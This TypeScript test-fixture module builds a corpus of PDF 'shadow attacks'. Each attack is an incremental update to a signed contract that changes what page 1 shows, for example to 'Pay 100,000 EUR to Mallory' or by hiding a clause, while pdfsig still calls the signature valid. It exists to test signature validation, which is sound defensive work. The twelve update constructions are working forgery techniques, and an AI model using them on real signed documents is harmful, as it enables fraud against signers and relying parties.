import { handmadePdf, objectStreamBody, streamObject } from './handmade.ts'
import { appendUpdate, findObject, latestObject } from './update.ts'

/*
 * The shadow-attack corpus: documents an attacker prepares and has signed, then changes by
 * an incremental update that leaves every signed byte alone. Each fixture visibly changes
 * page 1 in poppler (the tests prove it with pdftoppm/pdftotext), while pdfsig still calls
 * the signature valid. Generated here from the signing function the tests pass in.
 *
 * The prepared page: "Pay 100 EUR to Alice" in font 4, and "Clause 7: the fee is waived"
 * inside optional content group 8 (visible by default, per configuration 10). Its
 * /Contents is an indirect array (6) holding the content stream (5); the information
 * dictionary is object 7.
 */

export type AttackClass = 'aliasing' | 'non-widget annotation' | 'shared role' | 'combination' | 'object stream'

/** Which prepared document an attack starts from. */
export type Prepared = 'plain' | 'shared' | 'compressed'

/** Everything an attack's update may need: the signed prepared documents and a certificate for DSS updates. */
export interface CorpusContext {
  signed: Record<Prepared, Uint8Array>
  certificate: Uint8Array
}

export interface Attack {
  name: string
  class: AttackClass
  /** What the update does, for reports. */
  description: string
  prepared: Prepared
  /** The objects the incremental update (re)defines, and its trailer's /Info. */
  update: (signed: Uint8Array, context: CorpusContext) => { objects: Record<number, string>; info?: string }
}

export type Sign = (prepared: Uint8Array) => Promise<Uint8Array>

const PAGE_TEXT = 'BT /F1 24 Tf 72 700 Td (Pay 100 EUR to Alice) Tj ET\n/OC /oc1 BDC BT /F1 16 Tf 72 660 Td (Clause 7: the fee is waived) Tj ET EMC'
export const FORGED_TEXT = 'Pay 100,000 EUR to Mallory'

/** What a prepared document adds to the plain one: catalog and page entries, more objects. */
export interface PreparedExtras {
  catalog?: string
  page?: string
  objects?: Record<number, string>
}

function preparedObjects({ catalog = '/OCProperties << /OCGs [8 0 R] /D 10 0 R >>', page = '', objects = {} }: PreparedExtras = {}): Record<number, string> {
  return {
    1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> /Properties << /oc1 8 0 R >> >> /Contents 6 0 R ${page}>>`,
    4: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    5: streamObject(PAGE_TEXT),
    6: '[5 0 R]',
    7: '<< /Title (Services contract) /Producer (Signet shadow-attack corpus) >>',
    8: '<< /Type /OCG /Name (Clause 7) >>',
    10: '<< /Order [8 0 R] /ON [8 0 R] >>',
    ...objects,
  }
}

/** The plain prepared document (optional content described directly in the catalog), or a variant of it. */
export function preparedPdf(extras: PreparedExtras = {}): Uint8Array {
  return handmadePdf({ objects: preparedObjects(extras), root: 1, info: 7 })
}

/**
 * The same page, where two objects serve two roles: object 9 is both the catalog's
 * /OCProperties and its /DSS, and array 6 is both the page's /Contents and its /Annots.
 */
export function sharedRolePdf(): Uint8Array {
  return preparedPdf({ catalog: '/OCProperties 9 0 R /DSS 9 0 R', page: '/Annots 6 0 R', objects: { 9: '<< /OCGs [8 0 R] /D 10 0 R /Certs [] >>' } })
}

/** The members of object stream 11 in the compressed document: the font and the optional-content configuration. */
const COMPRESSED = [4, 10]

/** The plain prepared document with the font and the optional-content configuration in object stream 11. */
export function compressedPdf(): Uint8Array {
  return handmadePdf({ objects: preparedObjects(), root: 1, info: 7, compressed: { stream: 11, objects: COMPRESSED } })
}

/** An empty signature field "Reserved" with one widget at `rect`, on page 1: objects 12 and the form in the catalog. */
export function reservedFieldPdf(rect: string): Uint8Array {
  return preparedPdf({
    catalog: '/OCProperties << /OCGs [8 0 R] /D 10 0 R >> /AcroForm << /Fields [12 0 R] /SigFlags 1 >>',
    page: '/Annots [12 0 R] ',
    objects: { 12: `<< /FT /Sig /T (Reserved) /Type /Annot /Subtype /Widget /Rect ${rect} /F 4 /P 3 0 R >>` },
  })
}

const forgedContent = (): string => streamObject(`BT /F1 24 Tf 72 700 Td (${FORGED_TEXT}) Tj ET`)
const dingbats = '<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>'
const clauseHidden = '<< /Order [8 0 R] /OFF [8 0 R] >>'

/** Objects 40 and 41: an annotation of `subtype` that claims /FT /Sig and paints the forged text over the page. */
function overlay(subtype: string): Record<number, string> {
  return {
    40: `<< /Type /Annot /Subtype /${subtype} /FT /Sig /T (Approval) /Rect [50 600 562 760] /F 4 /P 3 0 R /AP << /N 41 0 R >> >>`,
    41: streamObject(
      `1 1 1 rg 0 0 512 160 re f 0 0 0 rg BT /F1 24 Tf 22 100 Td (${FORGED_TEXT}) Tj ET`,
      '/Type /XObject /Subtype /Form /BBox [0 0 512 160] /Resources << /Font << /F1 4 0 R >> >>',
    ),
  }
}

interface Form {
  num: number
  body: string
  /** The entries of its /Fields array, as text. */
  fields: string
}

function formOf(signed: Uint8Array): Form {
  const num = findObject(signed, /\/SigFlags/)
  const body = latestObject(signed, num)
  const fields = /\/Fields \[([^\]]*)\]/.exec(body)?.[1]
  if (fields === undefined) throw new Error('the signed form has no direct /Fields array')
  return { num, body, fields: fields.trim() }
}

/** The page gains the overlay in /Annots; with `inFields`, the form lists it as a field too. */
function overlayObjects(signed: Uint8Array, subtype: string, inFields: boolean): Record<number, string> {
  const objects = overlay(subtype)
  objects[3] = latestObject(signed, 3).replace('/Type /Page', '/Type /Page /Annots [40 0 R]')
  if (inFields) {
    const form = formOf(signed)
    objects[form.num] = form.body.replace(/\/Fields \[[^\]]*\]/, `/Fields [${form.fields} 40 0 R]`)
  }
  return objects
}

/** The form's /Fields re-pointed at the page's /Contents array (6), which is redefined to hold the form's fields: the page goes blank. */
function fieldsAliasObjects(signed: Uint8Array): Record<number, string> {
  const form = formOf(signed)
  return { [form.num]: form.body.replace(/\/Fields \[[^\]]*\]/, '/Fields 6 0 R'), 6: `[${form.fields}]` }
}

const sharedDssUpdate = (certificate: Uint8Array): Record<number, string> => ({
  9: '<< /OCGs [8 0 R] /D << /Order [8 0 R] /OFF [8 0 R] >> /Certs [42 0 R] >>',
  42: streamObject(Buffer.from(certificate).toString('latin1')),
})

/** The corpus. Each attack is an incremental update on a signed prepared document. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'info-aliases-content',
    class: 'aliasing',
    description: "the trailer's /Info is pointed at page 1's content stream, which is redefined with other text",
    prepared: 'plain',
    update: () => ({ objects: { 5: forgedContent() }, info: '5 0 R' }),
  },
  {
    name: 'info-aliases-font',
    class: 'aliasing',
    description: "/Info is pointed at page 1's font, which is redefined as ZapfDingbats",
    prepared: 'plain',
    update: () => ({ objects: { 4: dingbats }, info: '4 0 R' }),
  },
  {
    name: 'info-aliases-optional-content',
    class: 'aliasing',
    description: '/Info is pointed at the optional-content configuration, which is redefined to hide clause 7',
    prepared: 'plain',
    update: () => ({ objects: { 10: clauseHidden }, info: '10 0 R' }),
  },
  {
    name: 'fields-aliases-contents-array',
    class: 'aliasing',
    description: "the form's /Fields is pointed at page 1's /Contents array, redefined to hold the form's own fields: the page goes blank",
    prepared: 'plain',
    update: (signed) => ({ objects: fieldsAliasObjects(signed) }),
  },
  {
    name: 'dss-aliases-content',
    class: 'aliasing',
    description: "the catalog gains a /DSS that is page 1's content stream, which is redefined with other text",
    prepared: 'plain',
    update: (signed) => ({ objects: { 1: latestObject(signed, 1).replace('/Type /Catalog', '/Type /Catalog /DSS 5 0 R'), 5: forgedContent() } }),
  },
  {
    name: 'square-claims-signature-field',
    class: 'non-widget annotation',
    description: 'a /Square annotation carrying /FT /Sig (in /Annots and /Fields) paints the forged text over page 1',
    prepared: 'plain',
    update: (signed) => ({ objects: overlayObjects(signed, 'Square', true) }),
  },
  {
    name: 'stamp-claims-signature-field',
    class: 'non-widget annotation',
    description: "a /Stamp annotation carrying /FT /Sig, in page 1's /Annots only, paints the forged text",
    prepared: 'plain',
    update: (signed) => ({ objects: overlayObjects(signed, 'Stamp', false) }),
  },
  {
    name: 'dss-update-rewrites-shared-ocproperties',
    class: 'shared role',
    description: 'the signed revision uses object 9 as both /DSS and /OCProperties; a "DSS update" adds a certificate and turns clause 7 off',
    prepared: 'shared',
    update: (_signed, context) => ({ objects: sharedDssUpdate(context.certificate) }),
  },
  {
    name: 'annots-array-is-contents-array',
    class: 'shared role',
    description: "the signed revision uses array 6 as page 1's /Contents and /Annots; an invisible empty signature widget added to it blanks the page",
    prepared: 'shared',
    update: () => ({ objects: { 6: '[5 0 R 43 0 R]', 43: '<< /FT /Sig /T (Later) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132 /P 3 0 R >>' } }),
  },
  {
    name: 'info-alias-with-square-overlay',
    class: 'combination',
    description: '/Info aliasing the content stream and a /Square overlay claiming /FT /Sig, in one update',
    prepared: 'plain',
    update: (signed) => ({ objects: { ...overlayObjects(signed, 'Square', true), 5: forgedContent() }, info: '5 0 R' }),
  },
  {
    name: 'shared-dss-with-fields-alias',
    class: 'combination',
    description: 'the shared DSS/OCProperties rewrite and the /Fields alias of the contents array, in one update',
    prepared: 'shared',
    update: (signed, context) => ({ objects: { ...sharedDssUpdate(context.certificate), ...fieldsAliasObjects(signed) } }),
  },
  {
    name: 'object-stream-redefined',
    class: 'object stream',
    description: 'object stream 11 is redefined (only its own xref entry): the font inside it becomes ZapfDingbats without being listed',
    prepared: 'compressed',
    update: (signed) => ({ objects: { 11: objectStreamWith(signed, { 4: dingbats }) } }),
  },
]

/** Signs the three prepared documents. */
export async function signPrepared(sign: Sign): Promise<Record<Prepared, Uint8Array>> {
  const [plain, shared, compressed] = await Promise.all([sign(preparedPdf()), sign(sharedRolePdf()), sign(compressedPdf())])
  return { plain, shared, compressed }
}

/** The attacked file: the signed prepared document plus the attack's incremental update. */
export function buildAttack(attack: Attack, context: CorpusContext): Uint8Array {
  const signed = context.signed[attack.prepared]
  const { objects, info } = attack.update(signed, context)
  return appendUpdate(signed, objects, info ? { info } : {})
}

/** A new body for object stream 11 of the compressed document, with some of its members replaced. */
function objectStreamWith(signed: Uint8Array, replacements: Record<number, string>): string {
  if (!latestObject(signed, 11).includes('/ObjStm')) throw new Error('object 11 is not the object stream')
  return objectStreamBody({ ...preparedObjects(), ...replacements }, COMPRESSED)
}
